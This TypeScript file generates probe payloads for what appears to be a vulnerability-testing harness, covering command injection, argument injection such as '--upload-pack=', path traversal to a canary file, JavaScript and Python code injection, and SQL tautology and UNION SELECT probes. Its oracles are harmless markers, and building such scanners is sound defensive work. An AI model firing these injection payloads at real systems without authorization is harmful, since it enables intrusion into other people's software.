/**
 * The payload grammar (shared/KNOWLEDGE.md "Payload grammar for the harness"). Every probe names
 * the oracle that proves it ran: a string only execution produces, a marker file, a canary
 * file's content or a hit on the loopback listener. None of them deletes or overwrites anything;
 * the only files they create are markers inside the run's temp folder.
 */
import * as path from 'node:path';
import { randomInt } from 'node:crypto';
import { arithmetic, token } from './workspace';

export type Oracle =
  | { readonly kind: 'output'; readonly text: string }
  | { readonly kind: 'file'; readonly path: string }
  | { readonly kind: 'listener'; readonly id: string };

export interface Probe {
  /** What the payload tries, for evidence ("';' then a command, bare context"). */
  readonly label: string;
  readonly value: string;
  readonly oracle: Oracle;
}

/** Command injection: separators, substitutions and quote breaks, each with its own canary. */
export function commandProbes(base: string, markerPath: () => string): Probe[] {
  const probes: Probe[] = [];
  const arith = (label: string, make: (expr: string) => string) => {
    const { a, b, product } = arithmetic();
    probes.push({ label, value: make(`$((${a}*${b}))`), oracle: { kind: 'output', text: product } });
  };
  arith("';' separator", (e) => `${base};echo ${e}`);
  arith("'|' pipe", (e) => `${base}|echo ${e}`);
  arith("'||' after a failing command", (e) => `${base}||echo ${e}`);
  arith("'&&' separator", (e) => `${base}&&echo ${e}`);
  arith('newline separator', (e) => `${base}\necho ${e}`);
  arith("'$(...)' substitution", (e) => `$(echo ${e})`);
  arith('backtick substitution', (e) => `\`echo ${e}\``);
  arith('single-quote break', (e) => `${base}';echo ${e};'`);
  arith('double-quote break', (e) => `${base}";echo ${e};"`);
  arith("'${IFS}' instead of spaces", (e) => `${base};echo\${IFS}${e}`);
  const t = token(3);
  probes.push({
    label: "printf-assembled marker after ';'",
    value: `${base};printf 'MCPW%sQ' ${t}`,
    oracle: { kind: 'output', text: `MCPW${t}Q` },
  });
  // Blind variants: the command's output may never reach the response.
  const m1 = markerPath();
  probes.push({ label: "';' separator, blind", value: `${base};touch ${m1}`, oracle: { kind: 'file', path: m1 } });
  const m2 = markerPath();
  probes.push({ label: "'$(...)' substitution, blind", value: `$(touch ${m2})`, oracle: { kind: 'file', path: m2 } });
  const m3 = markerPath();
  probes.push({ label: "single-quote break, blind", value: `${base}';touch ${m3};'`, oracle: { kind: 'file', path: m3 } });
  return probes;
}

/** Argument injection: values the invoked program parses as options that write a marker. */
export function argumentProbes(markerPath: () => string): Probe[] {
  const m1 = markerPath();
  const m2 = markerPath();
  const m3 = markerPath();
  return [
    // git log/diff/show write their output to the named file.
    { label: "'--output=' option", value: `--output=${m1}`, oracle: { kind: 'file', path: m1 } },
    // git clone/fetch/ls-remote run the named program through a shell; ':' swallows the repo argument.
    { label: "'--upload-pack=' option", value: `--upload-pack=touch ${m2};:`, oracle: { kind: 'file', path: m2 } },
    // curl -o, and tools with a short output flag.
    { label: "'-o' option", value: `-o${m3}`, oracle: { kind: 'file', path: m3 } },
  ];
}

/** Path traversal to a canary file outside every root. */
export function pathProbes(canaryFile: string, canaryContent: string): Probe[] {
  const oracle: Oracle = { kind: 'output', text: canaryContent };
  const rel = canaryFile.replace(/^[/\\]+/, '');
  const ups = (seg: string) => seg.repeat(16);
  return [
    { label: '../ repeated past the root', value: `${ups('../')}${rel}`, oracle },
    { label: 'absolute path', value: canaryFile, oracle },
    { label: "URL-encoded '..%2f'", value: `${ups('..%2f')}${rel.split(path.sep).join('%2f')}`, oracle },
    { label: "'....//' (stripped once)", value: `${ups('....//')}${rel}`, oracle },
    { label: 'file:// URL', value: `file://${canaryFile}`, oracle },
  ];
}

/** Code injection: arithmetic only a JavaScript or Python interpreter computes. */
export function codeProbes(): Probe[] {
  const out: Probe[] = [];
  const add = (label: string, make: (a: number, b: number) => string) => {
    const { a, b, product } = arithmetic();
    out.push({ label, value: make(a, b), oracle: { kind: 'output', text: product } });
  };
  add('JavaScript expression', (a, b) => `Math.imul(${a},${b})`);
  add('JavaScript single-quote break', (a, b) => `'+Math.imul(${a},${b})+'`);
  add('JavaScript double-quote break', (a, b) => `"+Math.imul(${a},${b})+"`);
  add('JavaScript template substitution', (a, b) => `\${Math.imul(${a},${b})}`);
  add('Python expression', (a, b) => `int.__mul__(${a},${b})`);
  add('Python single-quote break', (a, b) => `'+str(int.__mul__(${a},${b}))+'`);
  return out;
}

/** Database error text that only a broken query produces. */
export const SQL_ERROR =
  /SQLITE_ERROR|unrecognized token: |incomplete input|near "[^"]*": syntax error|sqlite3\.OperationalError|syntax error at or near "|unterminated quoted string at or near|You have an error in your SQL syntax|ER_PARSE_ERROR|Unclosed quotation mark after the character string|ORA-\d{5}|psycopg2?\.errors\.|SequelizeDatabaseError|quoted string not properly terminated/;

/**
 * A tautology and its false twin. They differ in one digit of an arithmetic comparison, so a
 * text search that treats the value as words (full-text MATCH, a search engine) answers both
 * alike; only a database evaluating the comparison tells them apart.
 */
export interface SqlPair {
  readonly label: string;
  readonly truthy: string;
  readonly falsy: string;
}

export function sqlPairs(base: string): SqlPair[] {
  const pair = (label: string, make: (cmp: string) => string): SqlPair => {
    const a = randomInt(11, 99);
    const b = randomInt(11, 99);
    return { label, truthy: make(`${a}*${b}=${a * b}`), falsy: make(`${a}*${b}=${a * b + 1}`) };
  };
  return [
    pair('single-quoted tautology', (c) => `${base}' OR ${c} OR 'a'='b`),
    pair('single-quoted tautology with comment', (c) => `${base}' OR ${c}-- `),
    pair('LIKE-context tautology', (c) => `${base}%' OR ${c}-- `),
    pair('double-quoted tautology', (c) => `${base}" OR ${c} OR "a"="b`),
    pair('numeric-context tautology', (c) => `0 OR ${c}`),
  ];
}

export function sqlQuoteBreaks(base: string): Probe[] {
  return [
    { label: "single quote breaks the string literal", value: `${base}'`, oracle: { kind: 'output', text: '' } },
    { label: 'double quote breaks the string literal', value: `${base}"`, oracle: { kind: 'output', text: '' } },
  ];
}

/** UNION SELECT of a computed marker for 1..maxColumns columns, quoted and numeric contexts. */
export function sqlUnionProbes(base: string, maxColumns = 5): Probe[] {
  const out: Probe[] = [];
  for (let n = 1; n <= maxColumns; n++) {
    const { a, b, product } = arithmetic();
    const cols = Array.from({ length: n }, () => `${a}*${b}`).join(',');
    out.push({ label: `UNION SELECT with ${n} column${n === 1 ? '' : 's'}`, value: `${base}' UNION SELECT ${cols}-- `, oracle: { kind: 'output', text: product } });
  }
  const { a, b, product } = arithmetic();
  out.push({ label: 'UNION SELECT in numeric context', value: `0 UNION SELECT ${a}*${b}`, oracle: { kind: 'output', text: product } });
  return out;
}
